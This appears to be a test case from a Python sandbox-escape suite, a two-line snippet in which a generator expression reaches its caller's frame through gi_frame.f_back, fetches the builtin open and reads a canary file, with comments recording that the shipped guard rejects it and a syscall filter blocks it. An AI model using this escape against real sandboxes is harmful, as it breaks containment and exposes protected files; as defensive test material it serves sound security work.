# Technique   a generator expression hands out its own frame
# Mechanism   the name is bound before it runs
# As shipped  rejected: attribute
# Unguarded   blocked: openat

g = (g.gi_frame.f_back for _ in [1])
return [frame.f_builtins["open"](CANARY_FILE).read() for frame in g][0]
